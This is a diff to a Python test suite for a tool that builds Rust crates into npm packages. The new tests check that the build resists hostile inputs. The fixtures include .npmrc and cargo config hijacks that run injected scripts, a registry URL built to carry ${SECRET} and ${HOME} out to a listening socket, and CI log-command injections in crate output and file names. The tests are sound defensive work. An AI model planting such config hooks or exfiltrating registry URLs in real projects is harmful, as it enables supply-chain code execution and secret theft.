@@ -6,7 +6,9 @@ import json
 import os
 import re
 import signal
+import socket
 import subprocess
+import tarfile
 import time
 from pathlib import Path
 from typing import Any
@@ -126,7 +128,7 @@ def test_what_crates_print_reaches_neither_the_terminal_nor_the_runner_as_a_comm
     prints = '#[test]\nfn prints() { eprintln!("\\u{1b}[31mred ##[error]x\\n::error::y\\u{7}"); panic!() }\n'
     top = repository([entry("one")], library("one", prints))
     ran = build(top, "--all")
-    assert "[one] ::error::y" in ran.err
+    assert "[one] : :error::y" in ran.err
     assert "\x1b" not in ran.err
     assert "\x07" not in ran.err
     assert "##[" not in ran.err
@@ -189,6 +191,79 @@ def test_a_package_that_nothing_built_or_that_does_not_load_is_a_failure(
     assert not list((top / "dist").glob("*.tgz"))
 
 
+def test_nothing_of_the_crate_runs_while_the_network_is_open(repository: MakeRepository) -> None:
+    files = addon("index.js", "exports.x = 1")
+    package = json.loads(files["demo/package.json"])
+    package["dependencies"] = {"evil": "git+file:///build/source/demo/evil.git"}
+    files |= {
+        "demo/package.json": json.dumps(package),
+        "demo/.npmrc": "node-options=--require=/build/source/demo/pwn.js\nignore-scripts=false\nscript-shell=/build/x\n",
+        "demo/pwn.js": "console.error('PWNED')",
+        "demo/.cargo/config.toml": "[build]\nrustc = '/build/source/demo/rustc'\n",
+        "demo/rustc": "#!/bin/sh\necho PWNED >&2\n",
+    }
+    for name, text in {
+        "HEAD": "ref: refs/heads/main",
+        "config": "[core]\nbare = true",
+        "refs/x": "",
+        "objects/x": "",
+    }.items():
+        files[f"demo/evil.git/{name}"] = text
+    top = repository([entry("demo", kind="napi", commands={"build": ADDON})], files)
+    assert build(top, "--all").code == 1
+    assert report(top)["demo"]["failure"]["phase"] == "fetch"
+    assert "PWNED" not in (top / "dist/logs/demo.log").read_text()
+
+
+def test_no_variable_is_there_to_be_sent_away_while_the_network_is_open(repository: MakeRepository) -> None:
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        port = server.getsockname()[1]
+        files = addon("index.js", "exports.x = 1") | {
+            "demo/.npmrc": f"registry=http://127.0.0.1:{port}/${{SECRET}}/\n@evil:registry=http://127.0.0.1:{port}/${{HOME}}/\n"
+        }
+        package = json.loads(files["demo/package.json"])
+        files["demo/package.json"] = json.dumps(package | {"dependencies": {"@evil/x": "1"}})
+        top = repository([entry("demo", kind="napi", env=["SECRET"], commands={"build": ADDON})], files)
+        ran = build(top, "--all", SECRET="s3cr3t-value")
+        server.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            server.accept()
+    assert "s3cr3t-value" not in ran.err
+
+
+def test_names_and_messages_of_crates_are_one_safe_line_wherever_they_are_shown(repository: MakeRepository) -> None:
+    files = addon("lost\n::warning::W\x1b[31m\ud800.js", "") | library(
+        "words", 'compile_error!("##[error]V1\\n::error::V2");\n'
+    )
+    top = repository([entry("demo", kind="napi", commands={"build": ADDON}), entry("words")], files)
+    ran = build(top, "--all")
+    assert ran.code == 1
+    assert "##[" not in ran.err
+    assert "\x1b" not in ran.err
+    assert not re.search(r"^\s*::", ran.err, re.MULTILINE)
+    assert "::warning::W" in report(top)["demo"]["failure"]["message"]
+
+
+def test_a_reader_that_goes_away_does_not_stop_the_build(repository: MakeRepository) -> None:
+    top = repository([entry("one")], library("one"))
+    with subprocess.Popen([COMMAND, "build", "--all"], cwd=top, stderr=subprocess.PIPE) as runner:
+        assert runner.stderr is not None
+        runner.stderr.readline()
+        runner.stderr.close()
+        assert runner.wait(60) == 0
+    assert report(top)["one"]["state"] == "built"
+
+
+def test_documents_of_any_name_go_into_the_package(repository: MakeRepository) -> None:
+    files = library("tool", rest='[[bin]]\nname = "tool"\npath = "src/main.rs"\n') | {
+        "tool/src/main.rs": "fn main() {}\n", "tool/README (old).md": "old", "tool/LICENSES/MIT.txt": "MIT", "tool/LICENSE": "MIT",
+    }  # fmt: skip
+    top = repository([entry("tool", kind="bin")], files)
+    assert build(top, "--all").code == 0
+    with tarfile.open(top / "dist" / report(top)["tool"]["package"]["file"]) as tar:
+        assert {"package/README (old).md", "package/LICENSE"} < set(tar.getnames())
+
+
 def test_a_package_carries_no_install_script(repository: MakeRepository) -> None:
     top = repository([entry("demo", kind="napi", commands={"build": ADDON})], addon("index.js", "exports.x = 1"))
     assert build(top, "--all").code == 0
@@ -197,7 +272,7 @@ def test_a_package_carries_no_install_script(repository: MakeRepository) -> None
     assert "postinstall" not in shown.stdout.decode()
 
 
-@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
+@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
 def test_a_signal_stops_everything_within_five_seconds_and_the_report_is_written(
     repository: MakeRepository, number: signal.Signals
 ) -> None:
